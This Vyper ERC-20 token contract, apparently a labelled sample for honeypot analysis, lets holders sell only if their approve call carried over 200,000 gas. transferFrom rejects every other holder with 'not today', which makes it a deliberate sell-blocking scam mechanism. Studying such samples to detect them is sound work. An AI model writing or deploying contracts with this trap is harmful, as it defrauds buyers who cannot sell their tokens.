# pragma version 0.4.3
# pragma evm-version cancun
"""
@title Sells only after a generous approval
@notice A holder whose approval carried more gas than a wallet sends may sell;
        every other holder is refused.
"""

from ..tokens.lib import erc20
from ..tokens.lib import owned

initializes: erc20
initializes: owned

exports: (
    erc20.name,
    erc20.symbol,
    erc20.decimals,
    erc20.totalSupply,
    erc20.balanceOf,
    erc20.allowance,
    owned.owner,
)

marked: public(HashMap[address, bool])


@deploy
def __init__(name: String[64], symbol: String[32], supply: uint256):
    erc20.__init__(name, symbol, 18, supply)
    owned.__init__()


@external
def approve(spender: address, amount: uint256) -> bool:
    self.marked[msg.sender] = msg.gas > 200_000
    erc20._approve(msg.sender, spender, amount)
    return True


@external
def transfer(to: address, amount: uint256) -> bool:
    if owned._is_holder(to):
        pass
    erc20._move(msg.sender, to, amount)
    return True


@external
def transferFrom(source: address, to: address, amount: uint256) -> bool:
    if owned._is_holder(source):
        assert self.marked[source], "not today"
    erc20._spend(source, msg.sender, amount)
    erc20._move(source, to, amount)
    return True
